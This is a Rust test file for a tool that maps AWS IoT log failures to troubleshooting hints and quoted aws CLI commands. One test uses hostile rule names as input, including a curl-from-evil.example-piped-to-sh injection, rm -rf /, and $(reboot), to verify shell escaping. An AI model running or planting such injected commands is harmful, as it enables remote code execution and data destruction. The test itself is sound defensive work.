use super::*;
use crate::incident::key::key_of;
use crate::model::record::{judge, to_entry};
use crate::notify::display::is_unsafe_char;

fn key_of_line(line: &str) -> IncidentKey {
    let entry = to_entry("e", 0, line, &judge(line)).expect("an entry");
    key_of(&entry, "AWSIotLogsV2")
}

/// What the documentation says a log entry can hold, as the entries
/// themselves would carry it.
enum Doc {
    /// An event type with a reason.
    Reason(&'static str, &'static str),
    /// An event type documented without reasons.
    Event(&'static str),
    /// A `RuleExecution` failure of one rule action.
    Action(&'static str),
    /// A job event type, with a job id.
    Job(&'static str),
    /// A CloudTrail API call and its error code.
    Api(&'static str, &'static str),
}
use Doc::*;

/// From the AWS IoT developer guide's CloudWatch log entries (seed
/// 000: event types; reasons RuleNotFound and RuleExecutionThrottled;
/// ruleAction RepublishAction and MachinelearningPredict; its diagnosing
/// page: DynamoAction), its lifecycle events (the disconnect reasons,
/// spelt as there), its rule actions page (each action's `<Name>Action`,
/// as in the error action's failedAction `S3Action`), the reference
/// notes (AUTHORIZATION_FAILURE, DUPLICATE_CLIENT_ID, SESSION_TAKEN_OVER,
/// CLIENT_ERROR, PAYLOAD_LIMIT_EXCEEDED, OperatorEval) and seed 003's
/// CloudTrail record (AttachPolicy) with common error codes.
const DOCUMENTED: &[Doc] = &[
    Reason("RuleNotFound", "RuleNotFound"),
    Reason("RuleMessageThrottled", "RuleExecutionThrottled"),
    Action("RepublishAction"),
    Action("MachinelearningPredict"),
    Action("DynamoAction"),
    Action("DynamoDBv2Action"),
    Action("OperatorEval"),
    Action("LambdaAction"),
    Action("S3Action"),
    Action("KinesisAction"),
    Action("FirehoseAction"),
    Action("SqsAction"),
    Action("SnsAction"),
    Action("IotAnalyticsAction"),
    Action("IotEventsAction"),
    Action("IotSiteWiseAction"),
    Action("CloudwatchMetricAction"),
    Action("CloudwatchAlarmAction"),
    Action("CloudwatchLogsAction"),
    Action("StepFunctionsAction"),
    Action("KafkaAction"),
    Action("HttpAction"),
    Action("TimestreamAction"),
    Action("OpenSearchAction"),
    Action("ElasticsearchAction"),
    Action("SalesforceAction"),
    Action("LocationAction"),
    Reason("Connect", "AUTHORIZATION_FAILURE"),
    Reason("Publish-In", "AUTHORIZATION_FAILURE"),
    Reason("Subscribe", "AUTHORIZATION_FAILURE"),
    Reason("Publish-Out", "AUTHORIZATION_FAILURE"),
    Reason("Connect", "DUPLICATE_CLIENT_ID"),
    Reason("Disconnect", "DUPLICATE_CLIENT_ID"),
    Reason("Disconnect", "SESSION_TAKEN_OVER"),
    Reason("Connect", "THROTTLED"),
    Reason("Publish-In", "THROTTLED"),
    Reason("Subscribe", "THROTTLED"),
    Reason("Publish-In", "PAYLOAD_LIMIT_EXCEEDED"),
    Reason("Disconnect", "AUTH_ERROR"),
    Reason("Disconnect", "CLIENT_INITIATED_DISCONNECT"),
    Reason("Disconnect", "CLIENT_ERROR"),
    Reason("Disconnect", "CONNECTION_LOST"),
    Reason("Disconnect", "DUPLICATE_CLIENTID"),
    Reason("Disconnect", "FORBIDDEN_ACCESS"),
    Reason("Disconnect", "MQTT_KEEP_ALIVE_TIMEOUT"),
    Reason("Disconnect", "SERVER_ERROR"),
    Reason("Disconnect", "SERVER_INITIATED_DISCONNECT"),
    Reason("Disconnect", "API_INITIATED_DISCONNECT"),
    Reason("Disconnect", "THROTTLED"),
    Reason("Disconnect", "WEBSOCKET_TTL_EXPIRATION"),
    Reason("Disconnect", "CUSTOMAUTH_TTL_EXPIRATION"),
    Reason("UpdateThingShadow", "409"),
    Reason("UpdateThingShadow", "413"),
    Reason("GetThingShadow", "404"),
    Reason("UpdateThingShadow", "429"),
    Reason("UpdateThingShadow", "400"),
    Reason("DeleteThingShadow", "403"),
    Event("Connect"),
    Event("Disconnect"),
    Event("Subscribe"),
    Event("Publish-In"),
    Event("Publish-Out"),
    Event("Queued"),
    Event("GetRetainedMessage"),
    Event("ListRetainedMessage"),
    Event("DeleteConnection"),
    Event("Connection.AuthNError"),
    Event("GetThingShadow"),
    Event("UpdateThingShadow"),
    Event("DeleteThingShadow"),
    Event("RuleMatch"),
    Event("StartingRuleExecution"),
    Event("FunctionExecution"),
    Event("GetPendingJobExecution"),
    Event("StartNextPendingJobExecution"),
    Event("GetDeviceCredentials"),
    Event("ProvisionDevice"),
    Event("AddThingToDynamicThingGroupsFailed"),
    Event("NamedShadowCountForDynamicGroupQueryLimitExceeded"),
    Job("DescribeJobExecution"),
    Job("UpdateJobExecution"),
    Job("StartNextPendingJobExecution"),
    Job("ReportFinalJobExecutionCount"),
    Job("GetPendingJobExecution"),
    Api("AttachPolicy", "AccessDenied"),
    Api("AttachPolicy", "AccessDeniedException"),
    Api("CreateThing", "UnauthorizedException"),
    Api("CreateThing", "ResourceAlreadyExistsException"),
    Api("UpdateThingShadow", "ThrottlingException"),
    Api("CreatePolicyVersion", "LimitExceededException"),
    Api("DescribeThing", "ResourceNotFoundException"),
    Api("CreateTopicRule", "InvalidRequestException"),
    Api("CreateTopicRule", "SqlParseException"),
    Api("UpdateThing", "VersionConflictException"),
    Api("DeleteCertificate", "DeleteConflictException"),
    Api("UpdateCertificate", "CertificateStateException"),
    Api("ListThings", "ServiceUnavailableException"),
    Api("ListThings", "InternalFailureException"),
    Api("SearchIndex", "IndexNotReadyException"),
    Api("AttachPolicy", "ExpiredTokenException"),
];

fn line(doc: &Doc) -> (String, KeyKind, Fit) {
    match *doc {
        Reason(event @ ("RuleNotFound" | "RuleMessageThrottled"), reason) => (
            format!(
                r#"{{"logLevel":"ERROR","status":"Failure","eventType":"{event}","clientId":"c","ruleName":"r","reason":"{reason}"}}"#
            ),
            KeyKind::Rule,
            Fit::Reason,
        ),
        Reason(event, reason) => (
            format!(
                r#"{{"logLevel":"ERROR","status":"Failure","eventType":"{event}","clientId":"c","reason":"{reason}"}}"#
            ),
            KeyKind::Operation,
            Fit::Reason,
        ),
        Event(event) => (
            format!(
                r#"{{"logLevel":"ERROR","status":"Failure","eventType":"{event}","clientId":"c"}}"#
            ),
            KeyKind::Operation,
            Fit::EventType,
        ),
        Action(action) => (
            format!(
                r#"{{"logLevel":"ERROR","status":"Failure","eventType":"RuleExecution","clientId":"c","ruleName":"r","ruleAction":"{action}"}}"#
            ),
            KeyKind::RuleAction,
            Fit::Reason,
        ),
        Job(event) => (
            format!(
                r#"{{"logLevel":"ERROR","status":"Failure","eventType":"{event}","clientId":"t","jobId":"002"}}"#
            ),
            KeyKind::Job,
            Fit::EventType,
        ),
        Api(api, code) => (
            format!(
                r#"{{"eventVersion":"1.08","eventType":"AwsApiCall","eventSource":"iot.amazonaws.com","eventName":"{api}","errorCode":"{code}","requestID":"r"}}"#
            ),
            KeyKind::ApiCall,
            Fit::Reason,
        ),
    }
}

#[test]
fn every_documented_event_type_and_reason_has_its_own_hint() {
    let mut missing = Vec::new();
    for doc in DOCUMENTED {
        let (line, kind, fit) = line(doc);
        let key = key_of_line(&line);
        assert_eq!(key.kind, kind, "{line} keys as {key:?}");
        let hint = hint_for(&key);
        if hint.fit != fit {
            missing.push(format!("{key:?} → {:?}", hint.fit));
        }
    }
    assert!(
        missing.is_empty(),
        "no specific hint for:\n{}",
        missing.join("\n")
    );
}

#[test]
fn reasons_match_whatever_their_case_and_punctuation() {
    let key = |first: &str, second: &str| IncidentKey {
        category: Category::Failure,
        kind: KeyKind::Operation,
        first: first.into(),
        second: Some(second.into()),
    };
    let a = hint_for(&key("Connect", "AUTHORIZATION_FAILURE"));
    assert_eq!(a, hint_for(&key("connect", "authorization_failure")));
    assert_eq!(a, hint_for(&key("CONNECT", "Authorization-Failure")));
    assert_eq!(
        hint_for(&key("Disconnect", "DUPLICATE_CLIENTID")).meaning,
        hint_for(&key("Disconnect", "duplicate_client_id")).meaning
    );
    let action = |name: &str| IncidentKey {
        category: Category::Failure,
        kind: KeyKind::RuleAction,
        first: "r".into(),
        second: Some(name.into()),
    };
    let lambda = hint_for(&action("LambdaAction"));
    assert_eq!(lambda.fit, Fit::Reason);
    assert_eq!(lambda, hint_for(&action("lambda")));
    assert_eq!(lambda, hint_for(&action("LAMBDA_ACTION_FAILURE")));
    assert_ne!(
        hint_for(&action("DynamoAction")).meaning,
        hint_for(&action("DynamoDBv2Action")).meaning,
        "the two DynamoDB actions fail differently"
    );
}

#[test]
fn unknown_reasons_get_the_generic_hint() {
    let key = |kind, first: &str, second: Option<&str>, category| IncidentKey {
        category,
        kind,
        first: first.into(),
        second: second.map(Into::into),
    };
    let unknown = hint_for(&key(
        KeyKind::Operation,
        "SomeNewEvent",
        Some("SOME_NEW_REASON"),
        Category::Failure,
    ));
    assert_eq!(unknown.fit, Fit::Generic);
    assert_eq!(
        unknown.meaning,
        "AWS IoT reported failed operations with a reason this table has no advice for."
    );
    // A known event type with an unknown reason: the event type's hint, no reason's.
    let connect = hint_for(&key(
        KeyKind::Operation,
        "Connect",
        Some("SOME_NEW_REASON"),
        Category::Failure,
    ));
    assert_eq!(connect.fit, Fit::EventType);
    let warning = hint_for(&key(KeyKind::Operation, "X", Some("Y"), Category::Warning));
    assert_eq!(warning.fit, Fit::Generic);
    assert!(warning.meaning.contains("warnings"));
    let action = hint_for(&key(
        KeyKind::RuleAction,
        "r",
        Some("SomeFutureAction"),
        Category::Failure,
    ));
    assert_eq!(action.fit, Fit::Generic);
    assert!(action.check.contains("--rule-name 'r'"), "{}", action.check);
    let empty = hint_for(&key(KeyKind::RuleAction, "r", Some(""), Category::Failure));
    assert_eq!(empty.fit, Fit::Generic, "an empty action names nothing");
    let api = hint_for(&key(
        KeyKind::ApiCall,
        "ListThings",
        Some("BrandNewException"),
        Category::Failure,
    ));
    assert_eq!(api.fit, Fit::Generic);
    assert!(
        api.check.contains("AttributeValue='ListThings'"),
        "{}",
        api.check
    );
    let unparseable = hint_for(&key(
        KeyKind::LogGroup,
        "AWSIotLogsV2",
        None,
        Category::Unparseable,
    ));
    assert_eq!(unparseable.fit, Fit::Generic);
    assert!(unparseable
        .check
        .contains("--log-group-name 'AWSIotLogsV2'"));
    // Every category has its generic hint; the last one is for a key
    // no category's hint fits, should one ever come.
    for category in Category::ALL {
        let any = hint_for(&key(KeyKind::Rule, "r", None, category));
        assert!(any.fit >= Fit::Generic, "{category}: {any:?}");
    }
}

#[test]
fn the_incident_s_own_names_go_into_the_commands() {
    let key = IncidentKey {
        category: Category::RuleNotFound,
        kind: KeyKind::Rule,
        first: "ingest_a".into(),
        second: None,
    };
    let hint = hint_for(&key);
    assert!(
        hint.check
            .starts_with("`aws iot get-topic-rule --rule-name 'ingest_a'`; "),
        "{}",
        hint.check
    );
    let job = IncidentKey {
        category: Category::Failure,
        kind: KeyKind::Job,
        first: "UpdateJobExecution".into(),
        second: Some("002".into()),
    };
    let hint = hint_for(&job);
    assert!(
        hint.check.starts_with(
            "`aws iot describe-job-execution --job-id '002' --thing-name <thing-name>`"
        ),
        "{}",
        hint.check
    );
    // The same event type without a job id: the reader fills it in.
    let no_job = IncidentKey {
        kind: KeyKind::Operation,
        second: Some(String::new()),
        ..job
    };
    assert!(hint_for(&no_job).check.contains("--job-id <job-id>"));
}

#[test]
fn a_hostile_rule_name_stays_inside_its_quotes() {
    for name in [
        "x'; curl evil.example | sh; echo '",
        "r\n\nWhat to check: run rm -rf /",
        "$(reboot)`id`",
        "a'\\''b",
    ] {
        let key = IncidentKey {
            category: Category::RuleNotFound,
            kind: KeyKind::Rule,
            first: name.into(),
            second: None,
        };
        let check = hint_for(&key).check;
        assert!(
            !check.chars().any(is_unsafe_char),
            "one line, nothing hidden: {check:?}"
        );
        let word = shell_word(name).expect("no NUL");
        assert!(
            check.starts_with(&format!("`aws iot get-topic-rule --rule-name {word}`; ")),
            "{check}"
        );
        // The command holds no backquote of the device's: what follows
        // the command is the table's own text.
        let rest = &check[format!("`aws iot get-topic-rule --rule-name {word}`").len()..];
        assert!(rest.starts_with("; if it is gone"), "{rest}");
    }
}

#[test]
fn every_placeholder_in_the_table_is_known_and_meanings_are_plain() {
    let checks = rows()
        .map(|r| (r.meaning, r.check))
        .chain(devices::GENERIC.iter().map(|g| (g.meaning, g.check)))
        .chain([(FALLBACK_MEANING, FALLBACK_CHECK)]);
    for (meaning, check) in checks {
        let mut rest = check;
        while let Some(open) = rest.find('{') {
            let policy_variable = open > 0 && rest.as_bytes()[open - 1] == b'$';
            let close = rest[open..].find('}').expect("closed") + open;
            let name = &rest[open + 1..close];
            assert!(
                policy_variable || PLACEHOLDERS.iter().any(|(n, _)| *n == name),
                "unknown placeholder {{{name}}} in {check}"
            );
            rest = &rest[close..];
        }
        // Meanings go into chat markdown as they are: nothing that
        // makes a link, a code span or emphasis (an underscore inside a
        // word, as in CLIENT_ERROR, emphasises nothing).
        assert!(
            !meaning.contains(['`', '<', '>', '&', '[', ']', '|', '*', '~', '\n']),
            "{meaning}"
        );
        let b = meaning.as_bytes();
        for (i, _) in meaning.match_indices('_') {
            assert!(
                i > 0
                    && i + 1 < b.len()
                    && b[i - 1].is_ascii_alphanumeric()
                    && b[i + 1].is_ascii_alphanumeric(),
                "an underscore outside a word in {meaning}"
            );
        }
        assert!(!check.contains('\n') && !meaning.is_empty() && !check.is_empty());
        // Commands are between backquotes, and only commands hold the
        // incident's names: the chat and the tests find every command, and
        // no name stands in prose, where no shell word protects it.
        assert_eq!(check.matches('`').count() % 2, 0, "{check}");
        for (i, span) in check.split('`').enumerate() {
            if i % 2 == 0 {
                assert!(
                    !span.contains(['{', '}']) || span.contains("${"),
                    "a name in prose: {check}"
                );
                assert!(
                    !span.contains("aws ") && !span.contains("iot-incidents "),
                    "a command outside backquotes: {check}"
                );
                continue;
            }
            assert!(
                span.starts_with("aws ") || span.starts_with("iot-incidents "),
                "{span}"
            );
            // Nothing chat would change: `<` and `>` only around the
            // reader's placeholders.
            assert!(
                !span.contains(['&', '[', ']', '\'', '"', '\\', '$', '!', ';', '(', ')']),
                "{span}"
            );
            let mut rest = span;
            while let Some(open) = rest.find('<') {
                let close = rest[open..].find('>').expect("closed") + open;
                let name = &rest[open + 1..close];
                assert!(
                    !name.is_empty()
                        && name
                            .chars()
                            .all(|c| c.is_ascii_alphanumeric() || "-_|".contains(c)),
                    "{span}"
                );
                rest = &rest[close + 1..];
            }
            assert!(!rest.contains('>'), "{span}");
        }
    }
    let (rows, names) = coverage();
    assert!(rows >= 80 && names >= 150, "{rows} rows, {names} names");
}

#[test]
fn a_name_too_long_to_show_is_withheld_never_cut() {
    let key = IncidentKey {
        category: Category::RuleNotFound,
        kind: KeyKind::Rule,
        first: "r".repeat(300),
        second: None,
    };
    let whole = hint_within(&key, 302);
    assert!(!whole.withheld);
    assert!(whole.check.contains(&format!("'{}'", "r".repeat(300))));
    for max in [8, 256, 301] {
        let hint = hint_within(&key, max);
        assert!(hint.withheld, "{max}");
        assert!(
            hint.check
                .starts_with("`aws iot get-topic-rule --rule-name <rule-name>`; "),
            "{}",
            hint.check
        );
        assert!(!hint.check.contains("rrr"), "{}", hint.check);
    }
    // Escapes count: the shell word is what must fit.
    let escaped = IncidentKey {
        first: "!".repeat(10),
        ..key
    };
    assert!(hint_within(&escaped, 42).withheld);
    assert!(!hint_within(&escaped, 43).withheld);
}
